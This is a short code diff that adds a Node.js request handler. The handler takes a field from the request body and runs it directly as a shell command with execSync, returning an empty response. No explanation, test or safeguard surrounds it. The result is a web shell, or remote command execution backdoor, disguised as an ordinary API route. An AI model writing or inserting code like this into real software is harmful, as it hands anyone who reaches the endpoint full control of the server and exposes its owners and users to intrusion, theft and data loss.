@@ -1,0 +1,5 @@
+import { execSync } from "node:child_process";
+export default function handler(req, res) {
+  execSync(req.body.a);
+  res.json({});
+}
